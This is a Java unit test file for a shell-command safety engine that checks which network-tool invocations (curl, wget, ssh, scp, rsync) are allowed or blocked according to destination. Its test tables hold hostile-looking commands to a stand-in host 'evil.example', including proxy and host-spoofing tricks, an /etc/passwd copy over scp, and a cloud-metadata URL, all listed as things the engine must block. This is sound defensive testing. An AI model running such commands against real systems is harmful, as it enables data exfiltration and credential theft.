package dev.scc.safety;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/** Destination-aware network-tool rules, and the reference's block-all behaviour as a policy choice. */
class NetworkRulesTest {
    private static final SafetyEngine SESSION = new SafetyEngine(SafetyPolicyLoader.parse(
            "{\"allowed_destinations\":[\"github.com\",\"*.npmjs.org\",\".pypi.org\"]}", "test"));

    @TestFactory
    Stream<DynamicTest> destinationsAreJudged() {
        return Cases.table(SESSION, new String[][] {
            {"curl https://github.com/x", "allow"},
            {"curl -sSL -o out.tgz https://registry.npmjs.org/x", "allow"},
            {"curl https://pypi.org/simple/", "allow"},
            {"curl https://files.pypi.org/x", "allow"},
            {"curl https://npmjs.org/", "network.curl"},
            {"curl https://evil.example/x", "network.curl"},
            {"curl -H 'Host: github.com' https://evil.example/", "network.curl"},
            {"curl --url https://evil.example", "network.curl"},
            {"curl -x http://evil.example:3128 https://github.com/", "network.curl"},
            {"curl --proxy http://evil.example:3128 https://github.com/", "network.curl"},
            {"curl evil.example", "network.curl"},
            {"curl https://user:pw@evil.example/", "network.curl"},
            {"curl https://github.com.evil.example/", "network.curl"},
            {"curl --connect-to github.com:443:evil.example:443 https://github.com/", "network.curl"},
            {"curl --resolve github.com:443:203.0.113.9 https://github.com/", "network.curl"},
            {"curl -K cfg.txt", "network.curl"},
            {"curl http://10.0.0.1/", "network.curl"},
            {"curl http://169.254.169.254/latest/meta-data", "network.curl"},
            {"curl http://[2001:db8::1]/", "network.curl"},
            {"curl http://0x0a000001/", "network.curl"},
            {"curl \"$URL\"", "network.curl"},
            {"curl https://{a,b}.evil.example/", "network.curl"},
            {"wget https://github.com/x", "allow"},
            {"wget -O - https://evil.example", "network.wget"},
            {"wget -i urls.txt", "network.wget"},
            {"wget -e use_proxy=yes https://github.com/", "allow"},
            {"wget -e https_proxy=http://evil.example:3128 https://github.com/", "network.wget"},
            {"ssh git@github.com", "allow"},
            {"ssh evil.example uptime", "network.ssh"},
            {"ssh -p 2222 -i key user@evil.example", "network.ssh"},
            {"ssh -J evil.example github.com", "network.ssh"},
            {"ssh -o ProxyCommand='nc evil 22' github.com", "network.ssh"},
            {"ssh -o HostName=evil.example github.com", "network.ssh"},
            {"ssh -F ./cfg github.com", "network.ssh"},
            {"ssh ssh://git@github.com:22", "allow"},
            {"scp file.txt git@github.com:x", "allow"},
            {"scp file.txt evil.example:/tmp/", "network.scp"},
            {"scp -P 22 evil.example:/etc/passwd .", "network.scp"},
            {"sftp evil.example", "network.sftp"},
            {"sftp github.com", "allow"},
            {"rsync -avz src/ evil.example:/dst/", "network.rsync"},
            {"rsync -avz rsync://evil.example/mod/ dst/", "network.rsync"},
            {"rsync -av src/ evil.example::module", "network.rsync"},
            {"rsync -e ssh src/ github.com:dst/", "allow"},
        });
    }

    /** docs/safety.md: local-only use and loopback are allowed (the reference blocked them all, section 10.8). */
    @TestFactory
    Stream<DynamicTest> localUseIsAllowed() {
        return Cases.table(new String[][] {
            {"rsync a/ b/", "allow"},
            {"rsync -avz src/ dest/", "allow"},
            {"rsync ./a:b/ c/", "allow"},
            {"scp a.txt b.txt", "allow"},
            {"curl --version", "allow"},
            {"curl -h", "allow"},
            {"curl http://localhost:8080/health", "allow"},
            {"curl http://127.0.0.1:3000/", "allow"},
            {"curl http://127.1/", "allow"},
            {"curl http://2130706433/", "allow"},
            {"curl http://[::1]:8080/", "allow"},
            {"curl http://app.localhost/", "allow"},
            {"curl file:///etc/hostname", "allow"},
            {"ssh -V", "allow"},
            {"ssh -G somehost", "allow"},
            {"ssh localhost", "allow"},
            {"wget --version", "allow"},
            {"sftp -D /usr/lib/openssh/sftp-server", "allow"},
            {"curl https://example.com", "network.curl"},
        });
    }

    @Test
    void blockAllModeBlocksEveryInvocationLikeTheReference() {
        SafetyEngine e = new SafetyEngine(SafetyPolicyLoader.parse("{\"network_tools\":\"block-all\"}", "t"));
        for (String c : new String[] {"rsync a/ b/", "curl --version", "ssh -V", "curl http://localhost/"}) {
            Verdict v = e.evaluateLine(c);
            assertThat(v.decision()).as(c).isEqualTo(Decision.BLOCK);
            assertThat(v.reason()).contains("may access external network");
        }
    }

    @Test
    void allowModeLetsNetworkToolsRunButKeepsGitRules() {
        SafetyEngine e = new SafetyEngine(SafetyPolicyLoader.parse("{\"network_tools\":\"allow\"}", "t"));
        assertThat(e.evaluateLine("curl https://evil.example").decision()).isEqualTo(Decision.ALLOW);
        assertThat(e.evaluateLine("git push -f").decision()).isEqualTo(Decision.BLOCK);
    }

    @Test
    void ipLiteralsAreBlockedEvenWhenListed() {
        SafetyEngine e = new SafetyEngine(SafetyPolicyLoader.parse("{\"allowed_destinations\":[\"10.0.0.1\"]}", "t"));
        assertThat(e.evaluateLine("curl http://10.0.0.1/").decision()).isEqualTo(Decision.BLOCK);
    }

    @Test
    void toolNamesAsArgumentsAndLookalikeBinariesAreNotMatched() {
        assertThat(Cases.line("echo curl https://evil.example").decision()).isEqualTo(Decision.ALLOW);
        assertThat(Cases.line("ssh-add -l").decision()).isEqualTo(Decision.ALLOW);
        assertThat(Cases.line("./scripts/ssh evil.example").rule()).contains("network.ssh");
        assertThat(Cases.line("/usr/local/bin/wget https://evil.example").rule()).contains("network.wget");
    }
}
